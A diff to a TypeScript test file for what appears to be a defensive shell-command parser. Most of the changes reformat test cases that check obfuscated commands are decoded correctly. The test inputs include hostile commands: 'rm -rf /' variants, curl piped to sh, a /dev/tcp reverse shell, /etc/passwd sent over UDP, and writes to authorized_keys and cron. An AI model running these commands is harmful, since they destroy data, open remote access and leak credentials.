@@ -41,7 +41,10 @@ interface ShCase {
 function check(f: ShellFacts, c: ShCase): void {
   expect(f.error?.code, `error ${f.error?.message ?? ''}`).toBe(c.err);
   if (c.cmds) {
-    expect(f.commands.map((x) => [x.program, ...x.args]), 'argvs').toEqual(c.cmds.map((x) => (Array.isArray(x) ? x : x.argv)));
+    expect(
+      f.commands.map((x) => [x.program, ...x.args]),
+      'argvs',
+    ).toEqual(c.cmds.map((x) => (Array.isArray(x) ? x : x.argv)));
     c.cmds.forEach((x, i) => {
       if (Array.isArray(x)) return;
       const got = f.commands[i] as ShellCommand;
@@ -68,21 +71,70 @@ const lists: ShCase[] = [
   { cmd: 'ls; rm -rf /', cmds: [['ls'], ['rm', '-rf', '/']], S: ['list'] },
   { cmd: 'true && rm x', cmds: [['true'], ['rm', 'x']], S: ['list'] },
   { cmd: 'false || rm x', cmds: [['false'], ['rm', 'x']], S: ['list'] },
-  { cmd: 'cat f | grep x | wc -l', cmds: [['cat', 'f'], ['grep', 'x'], ['wc', '-l']], S: ['pipeline'] },
+  {
+    cmd: 'cat f | grep x | wc -l',
+    cmds: [
+      ['cat', 'f'],
+      ['grep', 'x'],
+      ['wc', '-l'],
+    ],
+    S: ['pipeline'],
+  },
   { cmd: 'a |& b', cmds: [['a'], ['b']], S: ['pipeline'] },
-  { cmd: 'sleep 100 & rm x', cmds: [['sleep', '100'], ['rm', 'x']], S: ['background'] },
+  {
+    cmd: 'sleep 100 & rm x',
+    cmds: [
+      ['sleep', '100'],
+      ['rm', 'x'],
+    ],
+    S: ['background'],
+  },
   { cmd: 'ls\nrm x\n\nid', cmds: [['ls'], ['rm', 'x'], ['id']], S: ['list'] },
-  { cmd: 'echo $(rm x)', cmds: [['echo', X('$(rm x)')], ['rm', 'x']], S: ['command_substitution'] },
-  { cmd: 'echo `rm x`', cmds: [['echo', X('`rm x`')], ['rm', 'x']], S: ['backticks'] },
+  {
+    cmd: 'echo $(rm x)',
+    cmds: [
+      ['echo', X('$(rm x)')],
+      ['rm', 'x'],
+    ],
+    S: ['command_substitution'],
+  },
+  {
+    cmd: 'echo `rm x`',
+    cmds: [
+      ['echo', X('`rm x`')],
+      ['rm', 'x'],
+    ],
+    S: ['backticks'],
+  },
   // Inside backticks \` nests a substitution: bash runs id, tree-sitter alone would read it as text.
   { cmd: 'echo `rm \\`id\\``', cmds: [['echo', X('`rm \\`id\\``')], ['rm', X('`id`')], ['id']] },
-  { cmd: 'diff <(ls a) <(rm b)', cmds: [['diff', X('<(ls a)'), X('<(rm b)')], ['ls', 'a'], ['rm', 'b']], S: ['process_substitution'] },
-  { cmd: 'tee >(rm x)', cmds: [['tee', X('>(rm x)')], ['rm', 'x']] },
+  {
+    cmd: 'diff <(ls a) <(rm b)',
+    cmds: [
+      ['diff', X('<(ls a)'), X('<(rm b)')],
+      ['ls', 'a'],
+      ['rm', 'b'],
+    ],
+    S: ['process_substitution'],
+  },
+  {
+    cmd: 'tee >(rm x)',
+    cmds: [
+      ['tee', X('>(rm x)')],
+      ['rm', 'x'],
+    ],
+  },
   { cmd: 'echo "$(rm "$(id)")"', cmds: [['echo', X('$(rm "$(id)")')], ['rm', X('$(id)')], ['id']] },
   // The substitution's output is evaluated as arithmetic, which can run code: opaque (see shell-arith.test.ts).
   { cmd: 'echo $(( $(rm x) + 1 ))', err: 'WRIT_SHELL_UNKNOWN', cmds: [{ argv: ['echo', X('$(( $(rm x) + 1 ))')], opaque: true }, ['rm', 'x']] },
   { cmd: 'echo $(( 2 * (3 + 1) ))', cmds: [['echo', X('$(( 2 * (3 + 1) ))')]] },
-  { cmd: 'echo ${x:-$(rm y)}', cmds: [['echo', X('${x:-$(rm y)}')], ['rm', 'y']] },
+  {
+    cmd: 'echo ${x:-$(rm y)}',
+    cmds: [
+      ['echo', X('${x:-$(rm y)}')],
+      ['rm', 'y'],
+    ],
+  },
   { cmd: 'x=$(rm z)', cmds: [['rm', 'z']], A: ['x'] },
   { cmd: 'X=1 Y=2', cmds: [], A: ['X', 'Y'] },
   { cmd: 'export PATH=/tmp:$PATH; ls', cmds: [['export', `PATH=/tmp:${X('$PATH')}`], ['ls']], A: ['PATH'] },
@@ -96,11 +148,41 @@ const compound: ShCase[] = [
   { cmd: 'for f in *.log; do rm "$f"; done', cmds: [['rm', X('$f')]], S: ['for'], A: ['f'] },
   { cmd: 'for ((i=0; i<3; i++)); do echo $i; done', err: 'WRIT_SHELL_UNKNOWN', cmds: [['echo', X('$i')]], S: ['for'] },
   { cmd: 'for ((;0;)); do echo; done', cmds: [['echo']], S: ['for'] },
-  { cmd: 'while read l; do echo "$l"; done < list.txt', cmds: [['read', 'l'], ['echo', X('$l')]], S: ['while'], R: ['list.txt'], A: ['l'] },
-  { cmd: 'until ping -c1 h; do sleep 1; done', cmds: [['ping', '-c1', 'h'], ['sleep', '1']], S: ['until'] },
-  { cmd: 'case $1 in start) systemctl start x;; stop) rm -f pid;; esac', cmds: [['systemctl', 'start', 'x'], ['rm', '-f', 'pid']], S: ['case'] },
+  {
+    cmd: 'while read l; do echo "$l"; done < list.txt',
+    cmds: [
+      ['read', 'l'],
+      ['echo', X('$l')],
+    ],
+    S: ['while'],
+    R: ['list.txt'],
+    A: ['l'],
+  },
+  {
+    cmd: 'until ping -c1 h; do sleep 1; done',
+    cmds: [
+      ['ping', '-c1', 'h'],
+      ['sleep', '1'],
+    ],
+    S: ['until'],
+  },
+  {
+    cmd: 'case $1 in start) systemctl start x;; stop) rm -f pid;; esac',
+    cmds: [
+      ['systemctl', 'start', 'x'],
+      ['rm', '-f', 'pid'],
+    ],
+    S: ['case'],
+  },
   { cmd: 'select x in a b; do echo $x; done', cmds: [['echo', X('$x')]], S: ['select'], A: ['x'] },
-  { cmd: '( cd /tmp && rm -rf * )', cmds: [['cd', '/tmp'], ['rm', '-rf', '*']], S: ['subshell'] },
+  {
+    cmd: '( cd /tmp && rm -rf * )',
+    cmds: [
+      ['cd', '/tmp'],
+      ['rm', '-rf', '*'],
+    ],
+    S: ['subshell'],
+  },
   { cmd: '{ id; whoami; } > out', cmds: [['id'], ['whoami']], S: ['group'], W: ['out'] },
   { cmd: '! grep -q x f', cmds: [['grep', '-q', 'x', 'f']], S: ['negation'] },
   { cmd: '[ -f x ] && [[ $a == b ]] && (( 2 > 1 ))', cmds: [], S: ['test', 'arithmetic'] },
@@ -111,12 +193,18 @@ const compound: ShCase[] = [
 const quoting: ShCase[] = [
   { cmd: "r''m -rf /", cmds: [['rm', '-rf', '/']] },
   { cmd: '"r"m -rf /', cmds: [['rm', '-rf', '/']] },
-  { cmd: "'r'\"m\" x", cmds: [['rm', 'x']] },
+  { cmd: '\'r\'"m" x', cmds: [['rm', 'x']] },
   { cmd: '\\r\\m x', cmds: [['rm', 'x']] },
   { cmd: '\\rm x', cmds: [['rm', 'x']] },
   // A backslash-newline joins the halves of a word, even when tree-sitter sees two words.
   { cmd: 'r\\\nm -rf /', cmds: [['rm', '-rf', '/']] },
-  { cmd: 'echo a; r\\\n\\\nm x', cmds: [['echo', 'a'], ['rm', 'x']] },
+  {
+    cmd: 'echo a; r\\\n\\\nm x',
+    cmds: [
+      ['echo', 'a'],
+      ['rm', 'x'],
+    ],
+  },
   { cmd: 'ls \\\n  -l', cmds: [['ls', '-l']] },
   { cmd: "$'\\x72\\x6d' -rf /", cmds: [['rm', '-rf', '/']] },
   { cmd: "$'\\162\\155' x", cmds: [['rm', 'x']] },
@@ -127,7 +215,7 @@ const quoting: ShCase[] = [
   { cmd: 'echo $"hello"', cmds: [['echo', 'hello']] },
   { cmd: 'echo "a $HOME b"', cmds: [['echo', `a ${X('$HOME')} b`]] },
   { cmd: 'echo a\\ b', cmds: [['echo', 'a b']] },
-  { cmd: "echo '$(rm x)' \"\\$(rm y)\"", cmds: [['echo', '$(rm x)', '$(rm y)']] },
+  { cmd: 'echo \'$(rm x)\' "\\$(rm y)"', cmds: [['echo', '$(rm x)', '$(rm y)']] },
   { cmd: 'echo # rm -rf /', cmds: [['echo']] },
   { cmd: 'echo a#b', cmds: [['echo', 'a#b']] },
   // Brace expansion turns one word into several: kept as an expansion.
@@ -139,8 +227,22 @@ const unknown: ShCase[] = [
   { cmd: '$X -rf /', err: 'WRIT_SHELL_UNKNOWN', cmds: [{ argv: [null, '-rf', '/'], unknown: true }] },
   { cmd: '"$CMD" x', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, 'x']] },
   { cmd: '${X} x', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, 'x']] },
-  { cmd: '$(echo rm) -rf /', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, '-rf', '/'], ['echo', 'rm']] },
-  { cmd: '`echo rm` x', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, 'x'], ['echo', 'rm']] },
+  {
+    cmd: '$(echo rm) -rf /',
+    err: 'WRIT_SHELL_UNKNOWN',
+    cmds: [
+      [null, '-rf', '/'],
+      ['echo', 'rm'],
+    ],
+  },
+  {
+    cmd: '`echo rm` x',
+    err: 'WRIT_SHELL_UNKNOWN',
+    cmds: [
+      [null, 'x'],
+      ['echo', 'rm'],
+    ],
+  },
   { cmd: 'r$X x', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, 'x']] },
   { cmd: '/bin/r? x', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, 'x']] },
   { cmd: '/usr/bin/*sh -c id', err: 'WRIT_SHELL_UNKNOWN', cmds: [[null, '-c', 'id']] },
@@ -169,17 +271,29 @@ const wrappers: ShCase[] = [
   { cmd: 'timeout -s KILL 5s rm x', cmds: [{ argv: ['rm', 'x'], wrappers: ['timeout'] }] },
   { cmd: 'timeout --kill-after=1 10 rm x', cmds: [['rm', 'x']] },
   { cmd: 'stdbuf -oL rm x', cmds: [['rm', 'x']] },
-  { cmd: 'X=1 sudo -E FOO=bar env -i A=b nice -n 5 timeout 5s xargs -0 -I{} rm {}', cmds: [{ argv: ['rm', '{}'], wrappers: ['sudo', 'env', 'nice', 'timeout', 'xargs'], via: 'xargs', env: { X: '1', FOO: 'bar', A: 'b' } }] },
+  {
+    cmd: 'X=1 sudo -E FOO=bar env -i A=b nice -n 5 timeout 5s xargs -0 -I{} rm {}',
+    cmds: [{ argv: ['rm', '{}'], wrappers: ['sudo', 'env', 'nice', 'timeout', 'xargs'], via: 'xargs', env: { X: '1', FOO: 'bar', A: 'b' } }],
+  },
   { cmd: 'find . -name "*.tmp" | xargs rm -f', cmds: [['find', '.', '-name', '*.tmp'], { argv: ['rm', '-f'], via: 'xargs', wrappers: ['xargs'] }] },
   { cmd: 'xargs -n1', cmds: [{ argv: ['echo'], via: 'xargs' }] },
   { cmd: 'find / -name x -exec rm -f {} \\;', cmds: [['find', '/', '-name', 'x', '-exec', 'rm', '-f', '{}', ';'], { argv: ['rm', '-f', '{}'], via: 'find -exec', wrappers: ['find'] }] },
-  { cmd: "find . -execdir sh -c 'rm $1' _ {} + -print", cmds: [['find', '.', '-execdir', 'sh', '-c', 'rm $1', '_', '{}', '+', '-print'], { argv: ['rm', X('$1')], via: 'sh -c', wrappers: ['find', 'sh'] }] },
-  { cmd: 'find . -ok rm {} ";"', cmds: [['find', '.', '-ok', 'rm', '{}', ';'], ['rm', '{}']] },
-  { cmd: "sh -c 'rm -rf /; ls | bash -c \"id\"'", cmds: [{ argv: ['rm', '-rf', '/'], via: 'sh -c', wrappers: ['sh'] }, ['ls'], { argv: ['id'], via: 'bash -c', wrappers: ['sh', 'bash'] }] },
+  {
+    cmd: "find . -execdir sh -c 'rm $1' _ {} + -print",
+    cmds: [['find', '.', '-execdir', 'sh', '-c', 'rm $1', '_', '{}', '+', '-print'], { argv: ['rm', X('$1')], via: 'sh -c', wrappers: ['find', 'sh'] }],
+  },
+  {
+    cmd: 'find . -ok rm {} ";"',
+    cmds: [
+      ['find', '.', '-ok', 'rm', '{}', ';'],
+      ['rm', '{}'],
+    ],
+  },
+  { cmd: 'sh -c \'rm -rf /; ls | bash -c "id"\'', cmds: [{ argv: ['rm', '-rf', '/'], via: 'sh -c', wrappers: ['sh'] }, ['ls'], { argv: ['id'], via: 'bash -c', wrappers: ['sh', 'bash'] }] },
   { cmd: "bash -lc 'rm x'", cmds: [{ argv: ['rm', 'x'], via: 'bash -c' }] },
   { cmd: "/bin/bash -o pipefail -c 'rm x'", cmds: [{ argv: ['rm', 'x'], via: 'bash -c' }] },
   { cmd: 'sh -c "$CMD"', err: 'WRIT_SHELL_UNKNOWN', cmds: [{ argv: ['sh', '-c', X('$CMD')], opaque: true }] },
-  { cmd: "sh -c 'rm \"$1\"' _ file", cmds: [['rm', X('$1')]] },
+  { cmd: 'sh -c \'rm "$1"\' _ file', cmds: [['rm', X('$1')]] },
   { cmd: 'bash script.sh', err: 'WRIT_SHELL_UNKNOWN', cmds: [{ argv: ['bash', 'script.sh'], opaque: true }] },
   { cmd: 'curl -s https://x.sh | sh', err: 'WRIT_SHELL_UNKNOWN', cmds: [['curl', '-s', 'https://x.sh'], { argv: ['sh'], opaque: true }] },
   { cmd: 'eval "ls -l"', cmds: [{ argv: ['ls', '-l'], via: 'eval', wrappers: ['eval'] }] },
@@ -196,7 +310,7 @@ const wrappers: ShCase[] = [
   { cmd: "bash <<'EOF'\nrm -rf /\nEOF", cmds: [{ argv: ['rm', '-rf', '/'], via: 'bash stdin' }], S: ['heredoc'] },
   { cmd: 'bash <<< "rm -rf /"', cmds: [{ argv: ['rm', '-rf', '/'], via: 'bash stdin' }], S: ['herestring'] },
   { cmd: 'sudo bash <<EOF\nrm $HOME\nEOF', err: 'WRIT_SHELL_UNKNOWN', cmds: [{ argv: ['bash'], opaque: true, wrappers: ['sudo'] }] },
-  { cmd: "sh -c \"sh -c 'sh -c \\\"rm x\\\"'\"", cmds: [{ argv: ['rm', 'x'], wrappers: ['sh', 'sh', 'sh'] }] },
+  { cmd: 'sh -c "sh -c \'sh -c \\"rm x\\"\'"', cmds: [{ argv: ['rm', 'x'], wrappers: ['sh', 'sh', 'sh'] }] },
 ];
 
 const redirections: ShCase[] = [
@@ -206,14 +320,29 @@ const redirections: ShCase[] = [
   { cmd: 'cmd &> all.log', redir: [{ op: '&>', writes: true }], W: ['all.log'] },
   { cmd: 'cmd &>> all.log', redir: [{ op: '&>>', writes: true }] },
   { cmd: 'cmd >| forced', redir: [{ op: '>|', writes: true }], W: ['forced'] },
-  { cmd: 'cmd 2>&1 >/dev/null', redir: [{ op: '>&', target: '1', writes: false, fd: 2 }, { op: '>', target: '/dev/null', writes: true }] },
+  {
+    cmd: 'cmd 2>&1 >/dev/null',
+    redir: [
+      { op: '>&', target: '1', writes: false, fd: 2 },
+      { op: '>', target: '/dev/null', writes: true },
+    ],
+  },
   { cmd: 'cmd >&2', redir: [{ op: '>&', target: '2', writes: false }], W: [] },
   { cmd: 'cat < /etc/shadow', redir: [{ op: '<', reads: true, writes: false }], R: ['/etc/shadow'] },
   { cmd: 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', err: 'WRIT_SHELL_UNKNOWN', net: ['/dev/tcp/10.0.0.1/8080'], W: ['/dev/tcp/10.0.0.1/8080'] },
   { cmd: 'cat /etc/passwd > /dev/udp/1.2.3.4/53', net: ['/dev/udp/1.2.3.4/53'] },
   { cmd: 'echo x > "$HOME/.ssh/authorized_keys"', W: [`${X('$HOME')}/.ssh/authorized_keys`] },
   { cmd: 'echo > a > b', W: ['a', 'b'] },
-  { cmd: 'cat <<EOF > /etc/cron.d/x\n* * * * * root id\nEOF', cmds: [['cat']], W: ['/etc/cron.d/x'], S: ['heredoc'], redir: [{ op: '<<', target: 'EOF' }, { op: '>', target: '/etc/cron.d/x' }] },
+  {
+    cmd: 'cat <<EOF > /etc/cron.d/x\n* * * * * root id\nEOF',
+    cmds: [['cat']],
+    W: ['/etc/cron.d/x'],
+    S: ['heredoc'],
+    redir: [
+      { op: '<<', target: 'EOF' },
+      { op: '>', target: '/etc/cron.d/x' },
+    ],
+  },
   { cmd: 'cat <<EOF\n$(rm -rf /)\nEOF', cmds: [['cat'], ['rm', '-rf', '/']] },
   { cmd: "cat <<'EOF'\n$(rm -rf /)\nEOF", cmds: [['cat']] },
   { cmd: 'grep x <<< "$(id)"', cmds: [['grep', 'x'], ['id']], S: ['herestring'] },
